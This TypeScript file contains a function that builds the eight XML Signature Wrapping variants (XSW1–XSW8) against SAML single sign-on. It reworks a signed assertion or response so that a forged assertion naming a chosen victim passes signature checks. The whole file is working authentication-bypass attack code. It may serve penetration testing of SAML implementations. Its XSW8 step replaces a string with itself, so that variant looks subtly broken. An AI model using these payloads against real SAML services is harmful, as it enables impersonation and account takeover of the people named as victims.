/**
 * Signature wrapping as in Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012): a genuine answer is put together anew around an assertion of the attacker's, and the signature, moved or not,
 * still fits what it signed. `xml` has a signed assertion, `both` a signed response.
 */
export function wrapped(xml: string, both: string, victim: string): [string, string][] {
  const [assertion = ""] = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml) ?? [];
  const [signature = ""] = /<Signature [\s\S]*?<\/Signature>/.exec(assertion) ?? [];
  const bare = assertion.replace(signature, "");
  const evil = bare.replace(/ ID="[^"]*"/, ' ID="_evil"').replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`).replace(/(<saml:AttributeValue[^>]*>)[^<]*@[^<]*/, `$1${victim}`);
  const sealed = (inner: string) => evil.replace("</saml:Issuer>", `</saml:Issuer>${inner}`);
  const inside = (what: string) => signature.replace("</Signature>", `<Object>${what}</Object></Signature>`);
  const instead = (content: string) => xml.replace(assertion, () => content);

  const [whole = ""] = /<samlp:Response[\s\S]*<\/samlp:Response>/.exec(both) ?? [];
  const [outer = ""] = /<Signature [\s\S]*?<\/Signature>/.exec(whole.replace(/<saml:Assertion[\s\S]*/, "")) ?? [];
  const unsigned = whole.replace(outer, "");
  const evilWhole = (inner: string) => unsigned.replace(/ ID="[^"]*"/, ' ID="_evilResponse"').replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`).replace("</saml:Issuer>", () => `</saml:Issuer>${inner}`);
  return [
    ["XSW1", evilWhole(outer.replace("</Signature>", () => `<Object>${unsigned}</Object></Signature>`))], ["XSW2", evilWhole(`${unsigned}${outer}`)],
    ["XSW3", instead(`${evil}${assertion}`)], ["XSW4", instead(evil.replace("</saml:Assertion>", () => `${assertion}</saml:Assertion>`))], ["XSW5", instead(`${sealed(signature)}${bare}`)],
    ["XSW6", instead(sealed(inside(bare)))], ["XSW7", instead(`<samlp:Extensions>${evil.replace("_evil", / ID="([^"]*)"/.exec(assertion)?.[1] ?? "")}</samlp:Extensions>${assertion}`)], ["XSW8", instead(sealed(inside(bare.replace("<saml:Subject", "<saml:Subject"))))],
  ];
}
